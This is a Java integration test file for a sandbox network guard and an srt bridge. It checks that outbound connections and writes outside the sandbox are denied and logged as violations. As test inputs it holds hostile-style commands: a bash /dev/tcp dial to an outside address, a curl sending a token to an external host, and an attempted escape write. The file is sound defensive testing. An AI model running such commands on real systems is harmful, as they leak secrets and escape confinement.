package dev.knockwatch.probes.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.knockwatch.events.CommandId;
import dev.knockwatch.events.Json;
import dev.knockwatch.probes.guard.GuardRunner;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The network guard and the srt bridge on this machine's real bubblewrap and srt 0.0.83. */
@Tag("integration")
class RealSandboxTest {

  static SrtBridge bridge;
  @TempDir Path dir;

  @BeforeAll
  static void prepare() {
    bridge = RealSandbox.prepare(new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
  }

  static String inGuard(String script) throws Exception {
    Process p = new ProcessBuilder(NetworkGuard.wrap(List.of("bash", "-c", script))).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
    return "exit " + p.exitValue() + "\n" + out;
  }

  @Test
  void theGuardHoldsOnlyLoopbackAndNothingLeavesIt() throws Exception {
    assertThat(NetworkGuard.check()).isEmpty();
    String links = inGuard("ip -o link show | awk -F': ' '{print $2}'; ip -o addr show | awk '{print $4}'");
    assertThat(links.lines().toList()).containsExactly("exit 0", "lo", "127.0.0.1/8", "::1/128");
    // a direct dial of a routable address has no way out
    assertThat(inGuard("exec 3<>/dev/tcp/192.0.2.10/443 && echo connected"))
        .startsWith("exit 1").contains("Network is unreachable").doesNotContain("connected");
  }

  @Test
  void theGuardsCheckRefusesANamespaceWithMoreThanLoopback() throws Exception {
    // the guard's own script, run in this machine's namespace (which has a real interface):
    // it must refuse to start the command and say what it found
    Process p = new ProcessBuilder("sh", "-c", NetworkGuard.SCRIPT, "guard", "echo", "ran").redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
    assertThat(p.exitValue()).isEqualTo(NetworkGuard.NOT_ONLY_LO);
    assertThat(out).startsWith("knockwatch network guard: the namespace must hold only lo (up), found: lo ")
        .doesNotContain("ran");
  }

  @Test
  void theBridgeWritesTheRefusalsWhereIngestReadsThem() throws Exception {
    Path logs = dir.resolve("logs");
    Path cwd = Files.createDirectories(dir.resolve("home/work"));
    Path settings = dir.resolve("srt-settings.json");
    Files.writeString(settings, GuardRunner.defaultSettings());
    String id = CommandId.random();
    SrtBridge.Run run = bridge.run(settings, logs, "ci-runner-7", id, cwd, Map.of("HOME", dir.resolve("home").toString()),
        0, true, "curl -sv --noproxy '' http://example.com/path?token=SECRET; touch ~/escaped; "
            + "curl -s --noproxy '*' https://192.0.2.10/", Duration.ofSeconds(60));

    assertThat(run.commandId()).isEqualTo(id);
    assertThat(run.stderr()).contains("X-Proxy-Error: blocked-by-allowlist").contains("Read-only file system");
    Path base = logs.resolve("ci-runner-7");
    List<JsonNode> records = Files.readAllLines(base.resolve(id + ".violations.jsonl")).stream()
        .map(l -> { try { return Json.MAPPER.readTree(l); } catch (Exception e) { throw new AssertionError(l, e); } })
        .toList();
    assertThat(records).extracting(r -> r.get("line").asText()).contains(
        "deny network-outbound example.com:80 (host is not on the allow list)",
        "deny openat " + dir.resolve("home/escaped"));
    assertThat(records).allSatisfy(r -> {
      assertThat(r.get("commandId").asText()).isEqualTo(id);
      assertThat(r.get("agentId").asText()).isEqualTo("ci-runner-7");
      assertThat(r.get("timestamp").asText()).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z");
      assertThat(r.get("line").asText()).doesNotContain("knockwatch-strace");
    });
    assertThat(Files.readString(base.resolve(id + ".stderr.log"))).doesNotContain("knockwatch-strace");
    assertThat(run.violations()).isEqualTo(records.size());
    assertThat(Files.readString(base.resolve(id + ".stderr.log")))
        .contains("< X-Proxy-Error: blocked-by-allowlist")
        .contains("<sandbox_violations>\ndeny network-outbound example.com:80 (host is not on the allow list)\n")
        .endsWith("</sandbox_violations>\n");
    assertThat(Files.readString(base.resolve(id + ".strace")))
        .containsPattern("(?m)^\\d+ +connect\\(\\d+, \\{sa_family=AF_INET, sin_port=htons\\(443\\), "
            + "sin_addr=inet_addr\\(\"192\\.0\\.2\\.10\"\\)\\}, 16\\) = -1 ENETUNREACH \\(Network is unreachable\\)$");
    assertThat(dir.resolve("home/escaped")).doesNotExist();
  }

  @Test
  void theSrtLimitEngineRetriesInTheRealSandbox() throws Exception {
    Path logs = dir.resolve("logs");
    dev.knockwatch.probes.limit.LimitPlan plan = new dev.knockwatch.probes.limit.LimitPlan(
        dev.knockwatch.probes.limit.LimitPlan.Pattern.BURST, 0, Duration.ofSeconds(1), 3, 1,
        List.of("example.com:443"), List.of("ci-runner-3"), Duration.ofMinutes(5), 4);
    List<String> ids = new dev.knockwatch.probes.limit.SrtLimitProbe(bridge, logs, dir.resolve("work")).run(plan);
    assertThat(ids).hasSize(1);
    assertThat(Files.readAllLines(logs.resolve("ci-runner-3").resolve(ids.get(0) + ".violations.jsonl")))
        .hasSize(3).allSatisfy(l -> assertThat(l)
            .startsWith("{\"line\":\"deny network-outbound example.com:443 (host is not on the allow list)\"")
            .contains("\"commandId\":\"" + ids.get(0) + "\""));
  }

  @Test
  void aBadCommandIdIsRefusedByTheBridgeWithItsReason() {
    Path settings = dir.resolve("s.json");
    assertThatThrownBy(() -> {
      Files.writeString(settings, GuardRunner.defaultSettings());
      bridge.run(settings, dir, "agent", "short", dir, Map.of(), 0, false, "true", Duration.ofSeconds(30));
    }).hasMessageContaining("the srt bridge failed (exit 64)")
        .hasMessageContaining("--command-id must be 22-128 base64url characters, got \"short\"");
  }
}
